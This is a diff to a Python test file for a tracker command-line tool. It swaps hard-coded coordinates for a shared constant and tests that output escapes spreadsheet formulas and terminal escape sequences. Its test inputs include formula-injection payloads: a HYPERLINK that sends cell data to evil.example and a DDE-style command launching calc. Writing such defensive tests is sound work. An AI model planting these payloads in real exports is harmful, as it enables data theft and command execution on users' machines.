@@ -17,7 +17,7 @@ from hypothesis import strategies as st
 from tracker.cli import main
 from tracker.text import FORMULA_STARTS, spreadsheet_safe, spreadsheet_text, terminal_safe
 
-from .common import MINIMAL
+from .common import MINIMAL, TADMUR
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\tTAB", "\rCR"]
@@ -26,7 +26,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|'
 def _folder(tmp_path: Path, **fields: Any) -> Path:
     folder = tmp_path / "events"
     folder.mkdir()
-    record = {**MINIMAL, "location": {"lat": 34.56, "lon": 38.28}, **fields}
+    record = {**MINIMAL, "location": {**TADMUR}, **fields}
     (folder / "one.yaml").write_text(yaml.safe_dump(record, allow_unicode=True), encoding="utf-8")
     return folder
 
@@ -97,7 +97,7 @@ def test_tracker_add_shows_escape_sequences_as_text(tmp_path: Path) -> None:
 
 
 def test_list_check_and_json_output_show_escape_sequences_as_text(tmp_path: Path) -> None:
-    folder = _folder(tmp_path, id="raqqa", title=f"Raqqa {ESCAPES}", location={"lat": 34.56, "lon": 38.28},
+    folder = _folder(tmp_path, id="raqqa", title=f"Raqqa {ESCAPES}", location={**TADMUR},
                      claims=[{"count": 4000, "of": f"fighters {ESCAPES}"}])
     for command in (["list", str(folder)], ["list", "--json", str(folder)], ["check", str(folder)],
                     ["check", "--json", str(folder)], ["validate", "--json", str(folder)]):
